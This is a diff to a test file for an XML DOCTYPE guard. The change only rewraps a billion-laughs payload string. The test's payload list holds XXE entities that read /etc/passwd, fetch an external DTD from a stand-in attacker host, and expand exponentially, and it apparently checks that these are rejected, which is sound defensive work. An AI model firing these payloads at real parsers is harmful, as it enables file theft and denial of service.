@@ -29,7 +29,8 @@ test('xml-doctype: XXE, parameter entities, billion laughs and late DOCTYPEs are
   const payloads = [
     '<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>',
     '<!DOCTYPE foo [<!ENTITY % dtd SYSTEM "http://evil.example/x.dtd">%dtd;]><foo/>',
-    '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">]><lolz>&lol2;</lolz>',
+    '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY ' +
+      'lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">]><lolz>&lol2;</lolz>',
     '<a/><!DOCTYPE a>',
     '<!DOCTYPE a><!DOCTYPE b [<!ENTITY x "y">]><a/>',
   ];
